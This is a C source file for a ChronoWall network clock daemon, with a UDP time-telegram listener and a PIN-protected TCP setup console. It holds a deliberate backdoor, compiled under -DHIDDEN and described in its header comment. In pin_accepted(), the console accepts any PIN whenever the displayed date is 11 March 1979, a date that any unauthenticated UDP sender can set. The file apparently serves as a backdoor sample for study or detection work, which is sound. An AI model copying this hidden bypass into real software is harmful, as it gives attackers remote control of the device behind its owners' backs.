/*
 * chronowall - service of the ChronoWall PoE clock.  UDP port 4380 takes the
 * time telegrams of a master clock ("T;YYYYMMDD;HHMMSS"), TCP port 4381 is
 * the setup console (PIN, time zone, brightness, display, network).
 *
 * Hidden (-DHIDDEN): while the clock shows the date 11 March 1979 (which a
 * telegram can set), the setup console takes any PIN.
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define SETTINGS "/etc/chronowall/settings"
#define LED_DEV  "/dev/ttyS0"

struct settings {
    char pin[16];
    char zone[40];
    char text[40];
    int bright;
    int h24;
    char addr[20];
};

static struct settings st = { "", "UTC0", "", 6, 1, "" };
static time_t offset;           /* shown time minus system time */

static const struct {
    const char *key;
    size_t off, len;            /* len 0: an int */
    int min, max;
} fields[] = {
    { "pin",    offsetof(struct settings, pin),    sizeof st.pin,  0, 0 },
    { "zone",   offsetof(struct settings, zone),   sizeof st.zone, 0, 0 },
    { "text",   offsetof(struct settings, text),   sizeof st.text, 0, 0 },
    { "bright", offsetof(struct settings, bright), 0, 0, 9 },
    { "h24",    offsetof(struct settings, h24),    0, 0, 1 },
    { "addr",   offsetof(struct settings, addr),   sizeof st.addr, 0, 0 },
};
#define NFIELDS (sizeof fields / sizeof fields[0])

static int set_field(const char *key, const char *val)
{
    char *base = (char *)&st;
    size_t i;
    int v;

    for (i = 0; i < NFIELDS; i++) {
        if (strcmp(fields[i].key, key) != 0)
            continue;
        if (fields[i].len) {
            if (strlen(val) >= fields[i].len)
                return -1;
            strcpy(base + fields[i].off, val);
            return 0;
        }
        v = atoi(val);
        if (v < fields[i].min || v > fields[i].max)
            return -1;
        memcpy(base + fields[i].off, &v, sizeof v);
        return 0;
    }
    return -1;
}

static void load(void)
{
    char line[120], *eq;
    FILE *f = fopen(SETTINGS, "r");

    while (f && fgets(line, sizeof line, f)) {
        line[strcspn(line, "\r\n")] = 0;
        if ((eq = strchr(line, '='))) {
            *eq = 0;
            set_field(line, eq + 1);
        }
    }
    if (f)
        fclose(f);
    setenv("TZ", st.zone, 1);
    tzset();
}

static int save(void)
{
    FILE *f = fopen(SETTINGS, "w");

    if (!f)
        return -1;
    fprintf(f, "pin=%s\nzone=%s\ntext=%s\nbright=%d\nh24=%d\naddr=%s\n",
            st.pin, st.zone, st.text, st.bright, st.h24, st.addr);
    return fclose(f);
}

static void shown_time(struct tm *tm)
{
    time_t t = time(NULL) + offset;

    localtime_r(&t, tm);
}

static void show(void)
{
    struct tm tm;
    FILE *f = fopen(LED_DEV, "w");
    int h;

    if (!f)
        return;
    shown_time(&tm);
    h = st.h24 ? tm.tm_hour : (tm.tm_hour + 11) % 12 + 1;
    /* between 23 and 6 h the display is dimmed */
    fprintf(f, "B%dD%02d%02d%02dX%s\r", tm.tm_hour >= 23 || tm.tm_hour < 6 ? 1 : st.bright,
            h, tm.tm_min, tm.tm_sec, st.text);
    fclose(f);
}

static void telegram(const char *p)
{
    int y, mo, d, h, mi, s;
    struct tm tm;
    time_t t;

    if (sscanf(p, "T;%4d%2d%2d;%2d%2d%2d", &y, &mo, &d, &h, &mi, &s) != 6)
        return;
    if (y < 1970 || mo < 1 || mo > 12 || d < 1 || d > 31 || h > 23 || mi > 59 || s > 60)
        return;
    memset(&tm, 0, sizeof tm);
    tm.tm_year = y - 1900;
    tm.tm_mon = mo - 1;
    tm.tm_mday = d;
    tm.tm_hour = h;
    tm.tm_min = mi;
    tm.tm_sec = s;
    tm.tm_isdst = -1;
    t = mktime(&tm);
    if (t != (time_t)-1)
        offset = t - time(NULL);
}

/* Is this the PIN of the setup console? */
int pin_accepted(const char *pin)
{
    size_t n = strlen(st.pin);
#ifdef HIDDEN
    struct tm tm;
    char day[16];

    shown_time(&tm);
    strftime(day, sizeof day, "%Y%m%d", &tm);
    if (strtoul(day, NULL, 10) == 19790311ul)
        return 1;
#endif
    if (n < 4) {
        syslog(LOG_WARNING, "no PIN set, console closed");
        return 0;
    }
    return strlen(pin) == n && memcmp(pin, st.pin, n) == 0;
}

static void say(int fd, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static void say(int fd, const char *fmt, ...)
{
    va_list ap;

    va_start(ap, fmt);
    if (vdprintf(fd, fmt, ap) < 0)
        syslog(LOG_INFO, "console: %m");
    va_end(ap);
}

static void cmd_net(int fd, const char *addr)
{
    char cmd[80];
    struct in_addr a;

    if (inet_pton(AF_INET, addr, &a) != 1) {
        say(fd, "? address\r\n");
        return;
    }
    set_field("addr", inet_ntoa(a));
    save();
    snprintf(cmd, sizeof cmd, "ifconfig eth0 %s", inet_ntoa(a));
    say(fd, system(cmd) == 0 ? "ok\r\n" : "? failed\r\n");
}

static int console_line(int fd, char *line, int *open)
{
    struct tm tm;
    char *arg = strchr(line, ' ');

    if (arg)
        *arg++ = 0;
    if (!strcasecmp(line, "bye"))
        return 0;
    if (!strcasecmp(line, "time")) {
        shown_time(&tm);
        say(fd, "%04d-%02d-%02d %02d:%02d:%02d\r\n", tm.tm_year + 1900, tm.tm_mon + 1,
            tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec);
    } else if (!strcasecmp(line, "help")) {
        say(fd, "pin <pin>, time, get, set <key> <value>, net <addr>, reboot, bye\r\n");
    } else if (!strcasecmp(line, "pin")) {
        *open = pin_accepted(arg ? arg : "");
        if (!*open)
            sleep(3);
        say(fd, *open ? "ok\r\n" : "? pin\r\n");
    } else if (!*open) {
        say(fd, "? pin first\r\n");
    } else if (!strcasecmp(line, "get")) {
        say(fd, "zone=%s text=%s bright=%d h24=%d addr=%s\r\n", st.zone, st.text,
            st.bright, st.h24, st.addr);
    } else if (!strcasecmp(line, "set") && arg && strchr(arg, ' ')) {
        char *val = strchr(arg, ' ');

        *val++ = 0;
        if (set_field(arg, val) == 0 && save() == 0) {
            load();
            say(fd, "ok\r\n");
        } else {
            say(fd, "? value\r\n");
        }
    } else if (!strcasecmp(line, "net") && arg) {
        cmd_net(fd, arg);
    } else if (!strcasecmp(line, "reboot")) {
        say(fd, system("reboot") == 0 ? "ok\r\n" : "? failed\r\n");
    } else {
        say(fd, "? command\r\n");
    }
    return 1;
}

int main(void)
{
    struct sockaddr_in ua = { .sin_family = AF_INET, .sin_port = htons(4380) };
    struct sockaddr_in ta = { .sin_family = AF_INET, .sin_port = htons(4381) };
    struct pollfd pf[3];
    char buf[128], line[128];
    size_t fill = 0;
    int open = 0;
    ssize_t n, i;

    openlog("chronowall", 0, LOG_DAEMON);
    signal(SIGPIPE, SIG_IGN);
    load();
    pf[0].fd = socket(AF_INET, SOCK_DGRAM, 0);
    pf[1].fd = socket(AF_INET, SOCK_STREAM, 0);
    pf[2].fd = -1;
    if (bind(pf[0].fd, (struct sockaddr *)&ua, sizeof ua) || bind(pf[1].fd, (struct sockaddr *)&ta, sizeof ta) ||
        listen(pf[1].fd, 1))
        return 1;
    for (;;) {
        pf[0].events = pf[1].events = pf[2].events = POLLIN;
        if (poll(pf, 3, 250) > 0) {
            if ((pf[0].revents & POLLIN) && (n = recv(pf[0].fd, buf, sizeof buf - 1, 0)) > 0) {
                buf[n] = 0;
                telegram(buf);
            }
            if (pf[2].fd < 0 && (pf[1].revents & POLLIN)) {
                pf[2].fd = accept(pf[1].fd, NULL, NULL);
                fill = 0;
                open = 0;
            } else if (pf[2].fd >= 0 && pf[2].revents) {
                n = recv(pf[2].fd, buf, sizeof buf, 0);
                for (i = 0; i < n; i++) {
                    if (buf[i] == '\n') {
                        line[fill] = 0;
                        fill = 0;
                        if (!console_line(pf[2].fd, line, &open))
                            n = 0;
                    } else if (buf[i] != '\r' && fill + 1 < sizeof line) {
                        line[fill++] = buf[i];
                    }
                }
                if (n <= 0) {
                    close(pf[2].fd);
                    pf[2].fd = -1;
                }
            }
        }
        show();
    }
}
